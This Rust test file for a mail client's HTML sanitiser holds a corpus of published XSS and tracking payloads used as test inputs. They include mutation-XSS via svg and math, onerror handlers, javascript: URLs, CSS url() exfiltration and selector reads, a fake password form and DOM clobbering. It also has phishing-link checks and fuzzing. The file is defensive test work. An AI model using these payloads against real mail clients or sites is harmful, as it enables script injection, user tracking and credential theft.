//! Foreign HTML: one mail for each way in that is known, and what must be true of every output.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    clippy::unwrap_used,
    reason = "a test may stop where it stands"
)]

use mailkiln_letter::html::{self, Images, NoImages, Policy, Suspicion};
use proptest::prelude::*;

#[path = "support/judge.rs"]
mod judge;

/// A proxy that signs what it makes, as the program does.
struct Proxy;

impl Images for Proxy {
    fn remote(&self, url: &str) -> Option<String> {
        let sum: u32 = url.bytes().map(u32::from).sum();
        Some(format!("/image/{sum}/{}", url.len()))
    }
    fn inline(&self, content_id: &str) -> Option<String> {
        (content_id == "logo@x").then(|| "/part/7".to_owned())
    }
    fn is_ours(&self, url: &str) -> bool {
        url == "/part/7"
            || url.starts_with("/image/")
                && url[7..].bytes().all(|one| one.is_ascii_digit() || one == b'/')
    }
}

/// The mails that tried it, by the class of `docs`; each is ours, after an attack that was published.
const HOSTILE: &[(&str, &str)] = &[
    ("03 raw text in foreign content", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("03 title in svg", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    (
        "03 math integration point",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    (
        "03 form in form",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("03 noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    (
        "03 template",
        "<template><img src=x onerror=alert(1)></template><div><template shadowrootmode=open><script>1</script>",
    ),
    ("03 comment", "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>"),
    (
        "03 plaintext, xmp, noembed",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><noembed><img src=x onerror=1></noembed><plaintext><script>",
    ),
    (
        "03 cdata",
        "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    ),
    (
        "04 animate href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    (
        "04 set by",
        "<svg><set attributeName=onmouseover to=alert(1)><animate attributeName=style by=x></svg>",
    ),
    (
        "05 use data",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/><image href=\"http://e.example/x\"/><feImage href=\"http://e.example/\"/></svg>",
    ),
    (
        "05 svg as data image",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\"><img src='data:image/svg+xml;base64,PHN2Zz4='>",
    ),
    (
        "06 css fetches",
        "<p style=\"background:u\\72l(http://e.example/1);--x:url(http://e.example/2);cursor:url(http://e.example/3);background:image-set('http://e.example/4' 1x)\">x</p>",
    ),
    (
        "06 css comment in url",
        "<p style=\"background: ur/**/l(http://e.example/); background-image: url(/*x*/http://e.example/)\">x</p>",
    ),
    (
        "06 font-face",
        "<style>@font-face{font-family:x;src:url(http://e.example/f)}p{font-family:x}@import 'http://e.example/i';@import url(http://e.example/j);</style><p>x</p>",
    ),
    (
        "06 body background",
        "<body background=http://e.example/b.png bgcolor=red style='background:url(http://e.example/c)'>x</body>",
    ),
    (
        "06 srcset, poster",
        "<img srcset='http://e.example/s 1x' alt=x><video poster=http://e.example/p src=http://e.example/v></video><input type=image src=http://e.example/i>",
    ),
    (
        "07 link",
        "<link rel=stylesheet href=http://e.example/><link rel=dns-prefetch href=//e.example><meta http-equiv=refresh content='0;url=http://e.example'><base href=http://e.example/>",
    ),
    (
        "08 entity between attribute and css",
        "<p style=\"color:red&quot;;background:url(http://e.example/)\" title='&quot;><img src=x onerror=alert(1)>'>x</p>",
    ),
    (
        "09 selectors that read",
        "<style>input[value^=a]{background:url(http://e.example/a)} a:visited{color:red} p:has(a){color:red} :is(a){color:red} @supports(x:y){p{color:red}}</style><p>x</p>",
    ),
    (
        "10 cover",
        "<div style='position:fixed;top:0;left:0;z-index:9999;width:100vw;height:100vh;margin-top:-9000px;transform:scale(99)' id=compose class='toolbar mk-letter mk-warning'>x</div>",
    ),
    (
        "10 cover by sheet",
        "<style>:root{position:fixed!important} body{margin:-1000px;color:red!important} .toolbar,#compose,html .x{display:none} * {inset:0} p{display:contents}</style><p class=x>x</p>",
    ),
    (
        "10 clobber",
        "<img name=cookie><a id=body name=getElementById>x</a><form name=forms><input name=parentNode></form>",
    ),
    (
        "13 phoning home",
        "<a href=https://e.example ping=https://e.example/p>x</a><img src=https://e.example/pixel.gif width=1 height=1><img lowsrc=http://e.example dynsrc=http://e.example>",
    ),
    (
        "16 script",
        "<script>alert(1)</script><ScRiPt src=//e.example></sCrIpT><img src=x onerror=alert(1)><a href='java\tscript:alert(1)'>x</a><a href='&#x6a;avascript:alert(1)'>y</a><a href=vbscript:x>z</a><a href='data:text/html,<script>'>d</a>",
    ),
    (
        "17 handlers",
        "<p onclick=1 ONMOUSEOVER=2 style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(x)\">x</p>",
    ),
    (
        "35 fake banner",
        "<span class=mk-warning>✓ verified</span><form action=https://e.example><input name=password><button>Sign in</button></form>",
    ),
    (
        "36 frames",
        "<iframe src=http://e.example srcdoc='<script>'></iframe><frameset><frame src=x></frameset><object data=x></object><embed src=x><portal src=x>",
    ),
    (
        "36 target",
        "<a href=https://e.example target=_top>x</a><a href=https://e.example target=_parent download>x</a>",
    ),
    ("37 spans", "<table><tr><td colspan=99999999 rowspan=65534 width=99999999>x</table>"),
    (
        "misnested",
        "<b><i></b></i><p><table><p><a><tr><td></a></table><a><a><div></a></div><li><p></li>",
    ),
    (
        "nul and odd",
        "<img src='x\0' on\0error=1><a href=' \x01javascript:alert(1)'>x</a><p\x0cstyle=color:red>x",
    ),
    ("broken end", "<a href=\"https://e.example"),
];

#[test]
fn nothing_of_the_corpus_runs_fetches_or_covers() {
    for (class, mail) in HOSTILE {
        for policy in
            [Policy::showing(&NoImages), Policy::showing(&Proxy), Policy::quoting(&NoImages)]
        {
            let cleaned = html::clean(mail, &policy);
            judge::check(&cleaned.html())
                .unwrap_or_else(|fault| panic!("{class}: {fault}\n{}", cleaned.html()));
            let again = html::clean(&cleaned.html(), &policy);
            assert_eq!(
                (&again.style, &again.body),
                (&cleaned.style, &cleaned.body),
                "{class} settles"
            );
        }
    }
}

#[test]
fn the_judge_itself_finds_faults() {
    for bad in [
        "<script>1</script>",
        "<p onclick=1>x</p>",
        "<svg></svg>",
        "<img src=http://e.example/x>",
        "<p style='position:fixed'>x</p>",
        "<style>@import 'x';</style>",
        "<a href=javascript:1>x</a>",
        "<p style='background:url(http://e.example)'>x</p>",
        "<p id=compose>x</p>",
    ] {
        assert!(judge::check(bad).is_err(), "{bad}");
    }
}

#[test]
fn ordinary_mail_looks_as_it_was_written() {
    let mail = "<html><head><title>t</title><style>.box { padding: 4px; } @media (max-width:600px){ .box{width:100%!important} } td.x > a{color:#FF0000}</style></head>\
        <body bgcolor='#eeeeee'><table width=600 cellpadding=0><tr><td class='box' style='font-family:Arial, \"Segoe UI\"; color: rgb(1, 2, 3)'>Hello &amp; <b>you</b><br>\
        <img src='cid:logo@x' alt=Logo width=100></td></tr></table></body></html>";
    let cleaned = html::clean(mail, &Policy::showing(&Proxy));
    assert_eq!(
        cleaned.body,
        "<div bgcolor=\"#eeeeee\"><table width=\"600\" cellpadding=\"0\"><tbody><tr><td class=\"mk-box\" \
         style=\"font-family: Arial, &#39;Segoe UI&#39;; color: rgb(1, 2, 3)\">Hello &amp; <b>you</b><br>\
         <img src=\"/part/7\" alt=\"Logo\" width=\"100\"></td></tr></tbody></table></div>"
    );
    assert_eq!(
        cleaned.style,
        ".mk-letter .mk-box { padding: 4px }\n@media (max-width: 600px) {\n.mk-letter .mk-box { width: 100% !important }\n}\n\
         .mk-letter td.mk-x > a { color: #FF0000 }\n"
    );
    assert!(!cleaned.cut);
}

#[test]
fn remote_images_wait_until_asked_for_and_are_counted() {
    let mail = "<img src=http://e.example/a.png alt=A><table background='//e.example/b'><tr><td>x</table><p style='background:url(https://e.example/c)'>y</p>";
    let off = html::clean(mail, &Policy::showing(&NoImages));
    assert_eq!(off.blocked_images, 3);
    assert!(!off.html().contains("e.example"), "{}", off.html());
    assert!(off.body.contains("<img alt=\"A\" class=\"mk-blocked\">"), "{}", off.body);
    let on = html::clean(mail, &Policy::showing(&Proxy));
    assert_eq!(on.blocked_images, 0);
    assert!(
        on.body.contains("<img src=\"/image/") && on.body.contains("url(&#39;/image/"),
        "{}",
        on.body
    );
}

#[test]
fn links_say_where_they_lead() {
    let cases = [
        ("https://bank.example/login", "https://thief.example/", Some(Suspicion::OtherPlace)),
        (
            "www.bank.example",
            "https://www.bank.example.thief.example/",
            Some(Suspicion::OtherPlace),
        ),
        ("bank.example", "https://login.bank.example/", None),
        ("Click here", "https://thief.example/", None),
        ("see report.pdf", "https://files.example/", None),
        ("my bank", "https://bank.example@thief.example/", Some(Suspicion::NameInFront)),
        ("my bank", "https://xn--80ak6aa92e.com/", Some(Suspicion::LookAlike)),
        ("münchen.example", "https://xn--mnchen-3ya.example/", None),
        ("x\u{202e}moc.elpmaxe", "https://e.example/", Some(Suspicion::Reversed)),
        ("me@bank.example", "mailto:other@thief.example", Some(Suspicion::OtherPlace)),
        ("https://\u{200b}bank.example", "https://thief.example/", Some(Suspicion::OtherPlace)),
    ];
    for (text, target, expected) in cases {
        assert_eq!(html::inspect_link(text, target), expected, "{text} -> {target}");
    }
    let cleaned = html::clean(
        "<a href=https://thief.example/x>bank.example</a>",
        &Policy::showing(&NoImages),
    );
    assert_eq!(
        cleaned.body,
        "<a href=\"https://thief.example/x\" title=\"https://thief.example/x\" target=\"_blank\" \
         rel=\"noopener noreferrer nofollow\">bank.example</a><span class=\"mk-warning\"> ⚠ thief.example </span>"
    );
}

#[test]
fn bombs_are_bounded_and_said() {
    let start = std::time::Instant::now();
    let mut bombs: Vec<String> = vec![
        "<div>".repeat(100_000),
        "<b><font size=1>".repeat(60_000),
        "<table><tr><td>".repeat(30_000),
        format!("<p>{}</p>", "<font size=1>".repeat(300)) + &"<p>x</p>".repeat(60_000),
        "<a href=#x>".repeat(60_000),
        "x".repeat(3 << 20),
        format!("<style>{}</style>", "a{".repeat(100_000)),
        format!("<p style=\"{}\">x</p>", "width:calc(".repeat(20_000)),
    ];
    bombs.push(format!("<style>{}</style>x", "p,".repeat(100_000)));
    for bomb in &bombs {
        let cleaned = html::clean(bomb, &Policy::showing(&NoImages));
        judge::check(&cleaned.html()).unwrap();
    }
    assert!(html::clean(&bombs[0], &Policy::showing(&NoImages)).cut);
    assert!(start.elapsed().as_secs() < 120, "{:?}", start.elapsed());
}

#[test]
fn html_becomes_text_that_a_reader_would_write() {
    let html = "<p>Hello <b>you</b>,</p><ul><li>one<li>two</ul><blockquote><p>old</p></blockquote><a href='https://a.example/'>here</a><script>x</script>";
    assert_eq!(
        html::to_text(html),
        "Hello you,\n\n- one\n- two\n\n> old\n\nhere <https://a.example/>\n"
    );
}

/// Pieces from which odd documents are made.
fn fragment() -> impl Strategy<Value = String> {
    let pieces: Vec<&'static str> = vec![
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<i>",
        "</i>",
        "<a href=https://a.example/>",
        "<a href=#x>",
        "</a>",
        "<table>",
        "</table>",
        "<tr>",
        "</tr>",
        "<td>",
        "</td>",
        "<tbody>",
        "<caption>",
        "<colgroup>",
        "<col>",
        "<li>",
        "<ul>",
        "</ul>",
        "<dd>",
        "<dl>",
        "<pre>\n\n",
        "</pre>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
        "</math>",
        "<style>",
        "</style>",
        "p{color:red}",
        "a.b>c{width:1.005px}",
        "<template>",
        "</template>",
        "<select>",
        "<option>",
        "</select>",
        "<form>",
        "</form>",
        "<h1>",
        "<h2>",
        "</h1>",
        "<ruby>",
        "<rt>",
        "<img src=x alt='<b>'>",
        "<img src=http://e.example/>",
        "text",
        "&lt;script&gt;",
        "&amp;lt;",
        "\r\n",
        "\u{a0}",
        "&#13;",
        "&#0;",
        "<!--",
        "-->",
        "<div style='color:red;margin:33.333%'>",
        "</div>",
        "<font color=red>",
        "</font>",
        "<button>",
        "</button>",
        "<hr>",
        "<br>",
        "</br>",
        "<title>",
        "</title>",
        "<body bgcolor=red>",
        "</body>",
        "<frameset>",
        "<nobr>",
        "<object>",
        "</object>",
        "<span class='a mk-warning'>",
        "</span>",
        "<",
        "\"",
        "'",
        ">",
        "=",
        "<textarea>",
        "</textarea>",
        "<noscript>",
        "<iframe>",
        "<q>",
        "bank.example",
        "<blockquote>",
        "<center>",
        "</center>",
    ];
    prop::collection::vec(prop::sample::select(pieces), 0..40).prop_map(|all| all.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn cleaning_twice_is_cleaning_once(mail in fragment()) {
        for policy in [Policy::showing(&Proxy), Policy::quoting(&NoImages)] {
            let once = html::clean(&mail, &policy);
            let twice = html::clean(&once.html(), &policy);
            prop_assert_eq!(&twice.body, &once.body);
            prop_assert_eq!(&twice.style, &once.style);
            judge::check(&once.html()).map_err(TestCaseError::fail)?;
        }
    }

    #[test]
    fn any_text_is_cleaned(mail in "\\PC{0,200}") {
        let once = html::clean(&mail, &Policy::showing(&NoImages));
        judge::check(&once.html()).map_err(TestCaseError::fail)?;
    }
}
